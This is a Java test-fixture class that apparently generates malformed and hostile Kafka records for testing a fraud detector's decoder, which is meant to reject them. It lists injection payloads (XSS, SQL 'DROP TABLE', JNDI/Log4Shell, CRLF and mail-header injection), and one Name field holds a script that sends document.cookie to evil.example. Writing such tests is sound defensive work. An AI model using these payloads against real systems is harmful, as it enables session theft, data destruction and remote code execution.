package dev.fraudwatch.faults;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.fraudwatch.core.json.Json;
import dev.fraudwatch.core.model.Transaction;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.SplittableRandom;
import java.util.function.BiFunction;

/**
 * Malformed and hostile values for {@code bank_transactions}, each built from a real transaction so it looks like
 * traffic: every one must be rejected by the detector's decoder and land in the dead-letter topic. Deterministic
 * for a given random. Also the names of hostile but valid records (see {@link #HOSTILE_NAMES}).
 */
final class BadRecords {

    /** Names a browser, a mail client or a search engine could mistake for markup or commands. */
    static final List<String> HOSTILE_NAMES = List.of(
        "<script>alert('fw')</script>",
        "\"><img src=x onerror=alert(1)>",
        "Robert'); DROP TABLE customers;--",
        "Mallory\r\nBcc: attacker@example.com",
        "{{7*7}} ${jndi:ldap://example.com/a}",
        "\u202Egnp.exe\u202C Evil RTL",
        "Zoë 🦊 Ünïcödé \u0000 nul",
        "javascript:alert(document.cookie)",
        "%0d%0aSet-Cookie: fw=1",
        "<svg/onload=alert(1)>" + "A".repeat(2000));

    private BadRecords() {
    }

    /** One kind of bad record: a description for the report, and how to spoil a valid transaction. */
    record Kind(String name, BiFunction<Transaction, SplittableRandom, byte[]> make) {
    }

    static final List<Kind> KINDS = List.of(
        new Kind("plain text", (t, r) -> utf8("not json at all " + t.transactionId())),
        new Kind("truncated JSON", (t, r) -> {
            byte[] whole = Json.toBytes(t);
            return java.util.Arrays.copyOf(whole, 1 + r.nextInt(whole.length - 2));
        }),
        new Kind("JSON array", (t, r) -> utf8("[" + Json.toString(t) + "]")),
        new Kind("JSON number", (t, r) -> utf8(Long.toString(r.nextLong()))),
        new Kind("missing Account Number", (t, r) -> edit(t, o -> o.remove("Account Number"))),
        new Kind("Account Number is a number", (t, r) -> edit(t, o -> o.put("Account Number", 12345))),
        new Kind("amount is text", (t, r) -> edit(t, o -> o.put("Current Transaction Amount", "lots"))),
        new Kind("negative amount", (t, r) -> edit(t, o -> o.put("Current Transaction Amount", -1 - r.nextInt(1000)))),
        new Kind("NaN amount", (t, r) -> utf8(Json.toString(t).replaceFirst(
            "\"Current Transaction Amount\":[^,}]+", "\"Current Transaction Amount\":NaN"))),
        new Kind("unparseable time", (t, r) -> edit(t, o -> o.put("Transaction Time", "yesterday at noon"))),
        new Kind("Login Devices is text", (t, r) -> edit(t, o -> o.put("Login Devices", "Laptop"))),
        new Kind("Transaction ID is an object", (t, r) -> edit(t, o -> o.putObject("Transaction ID").put("$gt", ""))),
        new Kind("blank Transaction ID", (t, r) -> edit(t, o -> o.put("Transaction ID", " \t "))),
        new Kind("raw control characters", (t, r) -> utf8(Json.toString(t).replace("\"Name\":\"",
            "\"Name\":\"\u0001\u0007\b\u001b[31m"))),
        new Kind("script injection, amount missing", (t, r) -> edit(t, o -> {
            o.put("Name", "<script>fetch('//evil.example/'+document.cookie)</script>");
            o.remove("Current Transaction Amount");
        })),
        new Kind("invalid UTF-8 bytes", (t, r) -> {
            byte[] b = new byte[16 + r.nextInt(200)];
            r.nextBytes(b);
            b[0] = (byte) 0xC3; // a lead byte followed by random ones
            b[1] = (byte) 0x28;
            return b;
        }),
        new Kind("XML", (t, r) -> utf8("<transaction id=\"" + t.transactionId() + "\"><amount>1</amount></transaction>")),
        new Kind("empty value", (t, r) -> new byte[0]),
        new Kind("deeply nested", (t, r) -> utf8("[".repeat(5000) + "]".repeat(5000))),
        new Kind("infinite amount", (t, r) -> utf8(Json.toString(t).replaceFirst(
            "\"Current Transaction Amount\":[^,}]+", "\"Current Transaction Amount\":1e999"))));

    /** Records over the decoder's 64 KB limit: a Name of 70,000 characters. */
    static final Kind HUGE = new Kind("over 64 KB", (t, r) -> edit(t, o -> o.put("Name", "H".repeat(70_000))));

    /** A tombstone: no value at all. */
    static final Kind NULL_VALUE = new Kind("null value", (t, r) -> null);

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] edit(Transaction t, java.util.function.Consumer<ObjectNode> change) {
        ObjectNode o = Json.MAPPER.valueToTree(t);
        change.accept(o);
        return Json.toBytes(o);
    }
}
